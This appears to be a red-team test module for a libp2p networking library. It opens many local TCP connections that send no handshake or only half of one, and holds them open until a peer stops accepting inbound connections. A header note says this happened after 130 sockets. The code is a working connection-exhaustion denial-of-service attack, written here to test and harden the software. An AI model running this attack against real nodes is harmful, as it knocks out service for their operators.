"""Sockets that never say who they are, some of them after half a greeting (K-D).

130 of them ended a peer's inbound connections.
"""

from __future__ import annotations

import trio
from libp2p.utils.varint import encode_delim

from tests.redteam.target import Target, each_tick

HELD = 200  # for each victim
PER_S = 60.0
HALVES = (
    b"", b"\x13/multistream", encode_delim(b"/multistream/1.0.0"),
    encode_delim(b"/multistream/1.0.0") + encode_delim(b"/noise")
)


async def attack(target: Target) -> None:
    held: dict[int, list[trio.SocketStream]] = {port: [] for port in target.ports()}
    async for number in each_tick(PER_S):
        port = target.ports()[number % len(held)]
        try:
            with trio.fail_after(5):
                stream = await trio.open_tcp_stream("127.0.0.1", port)
                await stream.send_all(HALVES[number % len(HALVES)])
        except (OSError, trio.TooSlowError, trio.BrokenResourceError):
            continue
        held[port].append(stream)
        if len(held[port]) > HELD:
            await held[port].pop(0).aclose()
